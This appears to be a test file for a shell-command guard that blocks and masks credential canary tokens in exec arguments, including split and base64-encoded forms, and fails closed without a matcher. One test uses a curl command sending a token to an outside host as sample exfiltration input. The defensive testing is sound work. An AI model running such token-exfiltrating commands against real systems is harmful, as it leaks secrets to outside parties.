// Judging one exec: hits in any argument, split across arguments, encoded; masking; fail closed without a matcher.
import { describe, expect, it } from 'vitest';
import { judgeExec } from '../../../../src/guards/shell/exec-policy.js';
import { makeCanary } from '../../../support/canaries.js';
import { TestGuardContext } from '../../../support/guard-context.js';

const c1 = makeCanary({ id: 'c1', label: 'ci', terminate: true });
const TOKEN = c1.value;
const ctx = new TestGuardContext([c1]);
const req = (argv: string[]) => ({ kind: 'execve', pid: 1, ppid: 0, path: '/usr/bin/' + argv[0], argv });

describe('judgeExec', () => {
  it('allows clean argv', () => {
    expect(judgeExec(ctx.snapshot(), req(['curl', 'https://example.com'])).decision).toEqual({ verdict: 'allow' });
  });

  it('denies a plain token and masks it', () => {
    const { decision: d, maskedArgv } = judgeExec(ctx.snapshot(), req(['curl', `https://x.io/?t=${TOKEN}`]));
    expect(d).toMatchObject({ verdict: 'deny', reason: 'blocked exec of curl: argument carries credential canary "ci"' });
    if (d.verdict !== 'deny') return;
    expect(d.fires.map((f) => [f.canaryId, f.variant, f.terminate])).toEqual([['c1', 'plain', true]]);
    expect(maskedArgv).toBe(`curl https://x.io/?t=ghp_…${TOKEN.slice(-4)}`);
  });

  it('denies a token split across two arguments and masks both parts', () => {
    const { decision: d, maskedArgv } = judgeExec(ctx.snapshot(), req(['printf', TOKEN.slice(0, 15), TOKEN.slice(15)]));
    expect(d.verdict).toBe('deny');
    expect(maskedArgv).not.toContain(TOKEN.slice(4, 15));
    expect(maskedArgv).not.toContain(TOKEN.slice(15));
  });

  it('shows an encoded hit only by its variant', () => {
    const b64 = Buffer.from(TOKEN).toString('base64');
    const { decision: d, maskedArgv } = judgeExec(ctx.snapshot(), req(['echo', b64]));
    expect(d.verdict).toBe('deny');
    expect(maskedArgv).toContain('«base64»');
    expect(maskedArgv).not.toContain(b64.slice(0, 20));
  });

  it('fails closed without a matcher, naming why', () => {
    const { decision } = judgeExec({ matcher: null, canaries: [], secrets: [], version: 1 }, req(['ls']));
    expect(decision).toMatchObject({ verdict: 'deny', failClosed: 'canary store not loaded', fires: [] });
  });
});
